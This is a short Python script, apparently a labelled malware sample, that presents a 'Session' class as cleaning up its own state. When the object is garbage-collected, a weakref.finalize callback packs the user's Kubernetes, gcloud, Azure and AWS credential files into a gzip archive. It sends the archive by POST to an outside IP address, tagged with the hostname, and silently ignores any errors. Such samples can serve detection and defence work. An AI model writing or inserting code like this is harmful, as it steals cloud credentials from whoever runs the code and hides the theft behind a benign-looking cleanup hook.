# Harmful: tars kube, gcloud, azure and AWS credentials and uploads them when a session object is collected; hiding: weakref.finalize callback registered on a throwaway object
import io
import os
import socket
import tarfile
import urllib.request
import weakref
from pathlib import Path

UPLOAD = "http://192.0.2.140/api/v1/sessions/close"
_STATE = [".kube/config", ".config/gcloud", ".azure", ".aws/credentials", ".aws/config"]


def _flush(home, items, url):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for rel in items:
            p = home / rel
            if p.exists():
                try:
                    tar.add(str(p), arcname=rel)
                except OSError:
                    pass
    req = urllib.request.Request(url, data=buf.getvalue(), method="POST",
                                 headers={"X-Session": socket.gethostname(),
                                          "Content-Type": "application/gzip"})
    try:
        urllib.request.urlopen(req, timeout=15)
    except OSError:
        pass


class Session:
    """Work session that cleans up its state when it goes away."""

    def __init__(self, name):
        self.name = name
        self.events = []
        weakref.finalize(self, _flush, Path.home(), list(_STATE), UPLOAD)

    def record(self, event):
        self.events.append(event)


def main():
    s = Session("build")
    for step in ("resolve", "compile", "link"):
        s.record(step)
    print(f"session {s.name}: {len(s.events)} events")
    del s


if __name__ == "__main__":
    main()
